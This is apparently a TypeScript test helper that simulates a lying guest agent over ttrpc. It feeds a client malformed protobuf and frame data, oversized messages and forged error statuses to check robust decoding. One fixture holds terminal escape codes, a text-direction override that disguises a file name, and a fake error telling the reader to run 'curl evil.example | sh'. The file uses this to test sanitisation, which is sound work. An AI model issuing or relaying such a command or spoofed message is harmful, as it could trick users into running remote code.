/**
 * A guest agent that lies on the wire. It answers the health check truthfully, and one method with a lie. Lies that fit any method are
 * here. Lies about the content of an answer are beside the code that reads it.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { silentLogger } from '../log.ts'
import { HealthCheckResponse, HealthCheckResponse_ServingStatus } from '../protocol/generated/health.ts'
import { listen } from '../ttrpc/bun.ts'
import { decodeRequest, encodeResponse } from '../ttrpc/envelope.ts'
import { FrameDecoder, frameType, headerBytes, writeHeader } from '../ttrpc/frame.ts'
import type { Transport } from '../ttrpc/ttrpc.ts'
import { type AgentConnection, connectAgent } from './connection.ts'

/** CSI of C0 and of C1, an override of the text direction, and the end of a line. */
export const rude = '\u001b[2J\u009b31m\u202egnp.exe\u2028\r\n'
/** An error as the runtime itself writes it, with its remedy. */
export const posing = `[SHIM_DIED] [X_Y] ${rude} the shim has to be repaired. Run: curl evil.example | sh`

/** Answers the call of that stream with one lie. */
export type WireLie = (guest: Transport, streamId: number) => void

const write = (bytes: (streamId: number) => Uint8Array): WireLie => {
  return (guest, streamId) => void Promise.resolve(guest.write(bytes(streamId))).catch(() => {})
}
const payload = (...bytes: readonly (number | Uint8Array)[]): WireLie =>
  write((streamId) => encodeResponse(streamId, { payload: Buffer.concat(bytes.map(part)) }))
const part = (bytes: number | Uint8Array) => (typeof bytes === 'number' ? Uint8Array.of(bytes) : bytes)
const filled = (length: number, ...pattern: number[]) => Buffer.alloc(length, Uint8Array.from(pattern))

function frame(streamId: number, type: number, data: Uint8Array, length = data.length): Uint8Array {
  const bytes = new Uint8Array(headerBytes + data.length)
  writeHeader(bytes, length, streamId, type as 2)
  bytes.set(data, headerBytes)
  return bytes
}

const status = (streamId: number, code: number, message: string, reason = ''): Uint8Array => {
  const text = Buffer.from(message)
  const answer = encodeResponse(streamId, { status: { code: 'internal', message, reason } })
  // The number of the code stands behind two tags and a length; all of them are one byte for a short text.
  if (text.length < 100) answer[headerBytes + 3] = code
  return answer
}

const unasked = (streamId: number) => frame(streamId, frameType.response, new Uint8Array(0))
/** The error of a call that had 30 ms. */
export const noAnswer = /^deadline_exceeded: \[AGENT_TIMEOUT\] .*\(no answer within 30 ms\)/
const notUnderstood = /^internal: answer of .* not understood$/
const overLimit = /^resource_exhausted: an answer of \d+ bytes is over the limit of \d+$/

/** Lies that any answer can be, and the end of the call that gets them. */
export const wireLies: Readonly<Record<string, { readonly lie: WireLie; readonly ends: string | RegExp }>> = {
  'every field in another type': {
    lie: payload(
      ...Array.from({ length: 15 }, (_, field) => [((field + 1) << 3) | 5, filled(4, 0xff)]).flat(),
    ),
    ends: 'answered',
  },
  'a field without its end': { lie: payload(0x0a, 0x64, 0x41), ends: notUnderstood },
  'a field of 4 GiB': {
    lie: payload(0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f),
    ends: notUnderstood,
  },
  'a number without its end': { lie: payload(filled(200, 0xff)), ends: notUnderstood },
  'a field of no type': { lie: payload(0x7f, 0x01), ends: notUnderstood },
  'field number 0': { lie: payload(0x00, 0x01), ends: /^(internal: answer of .* not understood|answered)$/ },
  'groups in groups': {
    lie: payload(filled(60_000, 0x7b)),
    ends: notUnderstood,
  },
  'values without end': {
    lie: payload(filled(60 * 1024, 0x7a, 0x00)),
    ends: notUnderstood,
  },
  'a message for another call': {
    lie: payload(0x0a, 0x03, 0x0a, 0x01, 0x41, 0x12, 0x01, 0x42, 0x18, 0x07),
    ends: /^(internal: answer of .* not understood|answered)$/,
  },
  'more bytes than the call may have': {
    lie: payload(filled(2200 * 1024, 0x7a, 0x00)),
    ends: overLimit,
  },
  'a frame over 4 MiB': {
    lie: write((id) => frame(id, frameType.response, new Uint8Array(5 << 20))),
    ends: overLimit,
  },
  'a frame of 4 GiB': {
    lie: write((id) => frame(id, frameType.response, part(1), 0xffff_ffff)),
    ends: 'AGENT_DIED',
  },
  'a frame of no type': { lie: write((id) => frame(id, 9, part(1))), ends: 'AGENT_DIED' },
  'a request': { lie: write((id) => frame(id, frameType.request, part(1))), ends: 'AGENT_DIED' },
  'a stream': { lie: write((id) => frame(id, frameType.data, part(1))), ends: 'AGENT_DIED' },
  'an envelope that is none': {
    lie: write((id) => frame(id, frameType.response, Uint8Array.of(0x0a, 0x64, 0x41))),
    ends: 'internal: answer not understood: malformed message: it ends inside a field',
  },
  'an error that poses as ours': {
    lie: write((id) => status(id, 13, posing + rude.repeat(1000), 'SHIM_DIED')),
    ends: /^internal: the guest says: (?!.*\[SHIM)[ -~]{1,2048}$/,
  },
  'an error of no number': { lie: write((id) => status(id, 0x63, 'x')), ends: 'unknown: the guest says: x' },
  'an error that is none': { lie: write((id) => status(id, 0, posing.slice(0, 30))), ends: 'answered' },
  'the answer to another call': {
    lie: write((id) => Buffer.concat([unasked(id + 2), unasked(id + 1), unasked(0), unasked(0xffff_ffff)])),
    ends: noAnswer,
  },
  silence: { lie: () => {}, ends: noAnswer },
  'the answer twice': { lie: write((id) => Buffer.concat([unasked(id), unasked(id)])), ends: 'answered' },
  'answers without end': {
    lie: write((id) => Buffer.concat(Array.from({ length: 100 }, () => unasked(id + 2)))),
    ends: 'AGENT_DIED',
  },
  'half an answer, and the end': {
    lie(guest, streamId) {
      void guest.write(frame(streamId, frameType.response, part(1), 100))
      guest.close()
    },
    ends: 'AGENT_DIED',
  },
}

export interface Liar {
  readonly connection: AgentConnection
  /** Whether it lies; false at first. */
  lies: boolean
  [Symbol.dispose](): void
}

/** A connection to a guest that answers `method` with the lie. Nothing is answered yet. The caller disposes of it. */
export async function liar(method: string, lie: WireLie): Promise<Liar> {
  const directory = mkdtempSync(join(tmpdir(), 'liar-'))
  const socketPath = join(directory, 'agent.sock')
  const state = { lies: false }
  const honest = encode(HealthCheckResponse_ServingStatus.SERVING)
  const listener = listen({ unix: socketPath }, (guest) => {
    const decoder = new FrameDecoder({
      frame({ streamId }, data) {
        const request = decodeRequest(data)
        if (state.lies && request.method === method) lie(guest, streamId)
        else void guest.write(encodeResponse(streamId, { payload: honest }))
      },
      oversize() {},
    })
    guest.onData((chunk) => decoder.push(chunk))
  })
  const connection = await connectAgent({ kind: 'serial', socketPath }, { log: silentLogger })
  return Object.assign(state, {
    connection,
    [Symbol.dispose]() {
      connection.close()
      listener.stop()
      rmSync(directory, { recursive: true })
    },
  })
}

const encode = (serving: HealthCheckResponse_ServingStatus): Uint8Array =>
  HealthCheckResponse.encode(HealthCheckResponse.fromPartial({ status: serving })).finish()
